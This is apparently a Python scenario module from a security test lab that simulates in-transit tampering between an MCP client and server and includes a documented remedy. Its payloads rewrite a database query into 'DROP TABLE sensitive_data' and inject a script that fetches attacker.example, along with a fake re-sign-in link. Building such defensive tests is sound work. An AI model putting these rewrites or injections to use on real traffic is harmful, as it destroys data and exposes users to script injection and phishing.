"""``message-tampering``: what was said is not what arrives."""

from __future__ import annotations

import re
import secrets
import sqlite3
from contextlib import asynccontextmanager, closing, suppress
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING, Any

from doorward.lab import another
from doorward.lab.certificates import Authority, self_signed
from doorward.lab.man_in_the_middle import NOTHING, Rewriting, between
from doorward.lab.scenario import (
    BenignTwinBrokenError,
    Example,
    Harm,
    Scenario,
    Target,
    Topology,
    Trace,
    Variant,
)
from doorward.lab.targets import python, script
from doorward.lab.watch import below

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

    from mcp import Client

    from doorward.lab.stage import Stage

QUERY = "query_db"
ASKED = "SELECT data FROM readings WHERE id = 123"
DROPPED = "DROP TABLE sensitive_data"
DOCUMENT = "doc.txt"
NEIGHBOUR = "weather.example"
OFFICE = "office.example"
"""What the user calls the server elsewhere."""
PIPES = (Topology.WRAP, Topology.SERVE_COMMAND)
HTTP = (Topology.SERVE_URL,)

STATEMENT = re.compile(rb'"query": ?"(?P<what>SELECT [^"\\]+)"')
DOCUMENT_TEXT = re.compile(rb'"text": ?"(?P<what>[^"\\]{240,})"')
"""The text of a document, as JSON has it: long enough for what shall stand there."""


def furnish(work: Path, greeting: str) -> None:
    """A database with what may be asked and what must stay, and a document."""
    _plant(work, greeting)
    text = f"The readings of this week, checked by {greeting}. " + "Nothing of note was seen. " * 12
    (work / DOCUMENT).write_text(text, encoding="utf-8")


def _plant(work: Path, greeting: str) -> None:
    with closing(sqlite3.connect(work / "data.db")) as database, database:
        database.execute("CREATE TABLE IF NOT EXISTS sensitive_data (name TEXT)")
        database.execute("CREATE TABLE IF NOT EXISTS readings (id INTEGER PRIMARY KEY, data TEXT)")
        database.execute("INSERT OR REPLACE INTO readings VALUES (123, ?)", (greeting,))


DESK = Target(
    id="query-desk",
    title="a naive server of ours that believes the way to itself",
    command=lambda stage: (*python(), script("query_desk"), str(stage.layout.work)),
    furnish=furnish,
    configuration="""\
[servers.query-desk.tools.query_db.arguments.query]
no_leading_dash = true
""",
    tools=(QUERY,),
)

IN_THE_PIPE = Variant("neighbour", "another server of the same user opens the pipe", "pipe", topologies=PIPES)
PLAIN = Variant("plain-http", "the document's own: nothing is encrypted", "plain", topologies=HTTP)
SELF_SIGNED = Variant("self-signed", "he shows a certificate that nobody vouches for", "self", topologies=HTTP)
UNKNOWN = Variant("other-authority", "he shows one of an authority that nobody trusts", "authority", topologies=HTTP)
BEHIND_TLS = Variant("behind-tls", "he stands where the server's own TLS ends", "right", topologies=HTTP)


class MessageTampering(Scenario):
    """In-transit message modification.

    Goal:
        Have the server do, or the user read, what nobody sent.
    Attacker:
        Somebody on the way between client and server, who takes what either says and passes on what he likes. Between
        the ends of a pipe there is no network: there it is another server of the same user, who opens the pipe.
    Steps:
        1. The user's client reaches the server through him: by plain HTTP, or by TLS that he ends with a certificate of
           his own. Or he stops the server for a moment, and reads from its pipe in its place.
        2. The client calls ``query_db`` with ``SELECT data …``. He makes that ``DROP TABLE sensitive_data``.
        3. Or the client reads a document. He makes its text a script and a link to another place.
    Impact:
        The table is gone, in the name of a user who asked a question; the script runs where the document is shown.
    Remedy:
        TLS with a certificate that is validated before the first byte, for all that leaves the machine; servers that
        cannot signal, trace or open another process. What arrives is judged all the same: arguments by the server,
        content before a client shows it. Whoever ends TLS rightly is trusted by that: only signatures of the messages
        themselves would show what he changes.
    """

    id = "message-tampering"
    title = "in-transit message modification"
    attacker = "network, server"
    stride = "tampering"
    cwe = ("CWE-300", "CWE-319", "CWE-295", "CWE-924")
    owasp = "MCP07:2025"
    controls = ("server-proof",)
    examples = (
        Example(
            id="arguments",
            title="the arguments of a call are rewritten",
            target=DESK,
            variants=(IN_THE_PIPE, PLAIN, SELF_SIGNED, UNKNOWN, BEHIND_TLS),
        ),
        Example(
            id="content",
            title="the content of a document is rewritten",
            target=DESK,
            alone=True,
            variants=(IN_THE_PIPE, PLAIN, UNKNOWN, BEHIND_TLS),
        ),
    )

    async def attack(self, stage: Stage, variant: Variant) -> None:
        _plant(stage.layout.work, stage.greeting)
        if variant.payload == "pipe":
            async with _beside_the_pipe(stage):
                await _use(stage, variant, stage.client)
            return
        arguments = stage.example.id == "arguments"
        pattern = STATEMENT if arguments else DOCUMENT_TEXT
        async with _on_the_way(stage, variant.payload, Rewriting(pattern, _instead(stage).encode())) as client:
            await _use(stage, variant, client)

    def harmed(self, stage: Stage, variant: Variant, _trace: Trace, /) -> Harm | None:
        if stage.example.id == "arguments":
            return None if _is_there(stage) else Harm("a table is gone that nobody asked to drop")
        shown = _shown(stage, variant)
        if shown.exists() and (active := what_acts(shown.read_text(encoding="utf-8"), stage.canary)):
            return Harm(f"{active} that the document never had arrived at the client")
        return None

    async def benign(self, stage: Stage) -> str:
        await _work(stage, stage.client)
        if stage.staging.topology is not Topology.SERVE_URL:
            return "the database was asked, and a document read"
        async with _on_the_way(stage, "right", NOTHING) as client:
            await _work(stage, client)
        return "the database was asked, and a document read: directly, and by https"


def _instead(stage: Stage) -> str:
    """What shall stand where the user's words, or the server's, stood."""
    return DROPPED if stage.example.id == "arguments" else _page(stage.canary)


async def _use(stage: Stage, variant: Variant, client: Client) -> None:
    """What the user does meanwhile: asks the database, or has the document shown."""
    if stage.example.id == "arguments":
        await client.call_tool(QUERY, {"query": ASKED})
    else:
        _shown(stage, variant).write_text(await _read(stage, client), encoding="utf-8")


@asynccontextmanager
async def _beside_the_pipe(stage: Stage) -> AsyncIterator[None]:
    """Another server of the user's runs, and waits for the next request to this one. It knows the number of the
    process: where it cannot see processes, it would guess.
    """
    await _work(stage, stage.client)  # behind `serve` there is a server once somebody came
    command = (*python(), script("weather_station"), str(_server_of(stage)), stage.example.id, _instead(stage))
    async with another.connected(stage, NEIGHBOUR, command=command) as weather:
        await weather.call_tool("latest_weather", {})
        yield


def _server_of(stage: Stage) -> int:
    """The process of the stage's own server.

    Raises:
        BenignTwinBrokenError: there is none.
    """
    ours = script("query_desk").encode()
    for pid in below(stage.processes):
        with suppress(OSError):  # it ended meanwhile
            words = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
            if words[1:2] == [ours]:
                return pid
    raise BenignTwinBrokenError("no server runs")


@asynccontextmanager
async def _on_the_way(stage: Stage, shows: str, rewriting: Rewriting) -> AsyncIterator[Client]:
    """A client of the user's, whose way to the server leads through him. Loopback stands for the network here.

    The user's system trusts one authority. Behind Doorward the server was written down by ``https://``, since it takes
    no other URL of a server elsewhere: where he speaks plainly, that is instead of TLS.
    """
    folder = stage.layout.outside / f"pki-{secrets.token_hex(4)}"
    folder.mkdir(mode=0o700)
    trusted = Authority(folder / "trusted.pem")
    async with between(stage.upstream, rewriting, _certificate(shows, folder, trusted)) as url:
        where = url.replace("http://", "https://") if stage.relayed else url
        name = f"{shows}.{OFFICE}" if rewriting is not NOTHING else OFFICE
        more = {"SSL_CERT_FILE": str(trusted.file)}
        async with another.connected(stage, name, url=where, more=more) as client:
            yield client


def _certificate(shows: str, folder: Path, trusted: Authority) -> Path | None:
    file = folder / "shown.pem"
    match shows:
        case "plain":
            return None
        case "self":
            return self_signed(file)
        case "authority":
            return Authority(folder / "unknown.pem").issue(file)
    return trusted.issue(file)


async def _work(stage: Stage, client: Client) -> None:
    """What an honest user does.

    Raises:
        BenignTwinBrokenError: it was not what the server says of itself.
    """
    result: Any = await client.call_tool(QUERY, {"query": ASKED})
    if result.is_error or stage.greeting not in result.content[0].text:
        raise BenignTwinBrokenError("the database did not answer the question")
    if stage.greeting not in await _read(stage, client):
        raise BenignTwinBrokenError("the document did not arrive")


async def _read(stage: Stage, client: Client) -> str:
    result: Any = await client.read_resource(f"file://{stage.layout.work / DOCUMENT}")
    return str(result.contents[0].text)


def _is_there(stage: Stage) -> bool:
    with closing(sqlite3.connect(stage.layout.work / "data.db")) as database:
        found = database.execute("SELECT name FROM sqlite_master WHERE name = 'sensitive_data'")
        return found.fetchone() is not None


def _shown(stage: Stage, variant: Variant) -> Path:
    """Where the client puts what it shows to its user."""
    return stage.layout.outside / f"page-{variant.id}.html"


def _page(canary: str) -> str:
    script = f"<script>fetch('https://attacker.example/?{canary}')</script>"
    return f"{script} <a href='https://attacker.example/sign-in?{canary}'>Please sign in again.</a>"


class _Reader(HTMLParser):
    """What in a page would act, as a browser reads it: scripts that carry the canary, and links that do."""

    def __init__(self, canary: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self._canary, self._inside = canary, ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._inside = tag
        if any(self._canary in (value or "") for _, value in attrs):
            self.found.append("a link" if tag == "a" else f"an {tag}")

    def handle_endtag(self, _tag: str) -> None:
        self._inside = ""

    def handle_data(self, data: str) -> None:
        if self._inside == "script" and self._canary in data:
            self.found.append("a script")


def what_acts(page: str, canary: str) -> str:
    """What of a page would act, and carries the canary; empty for nothing."""
    reader = _Reader(canary)
    reader.feed(page)
    reader.close()
    return " and ".join(reader.found)


SCENARIO = MessageTampering()
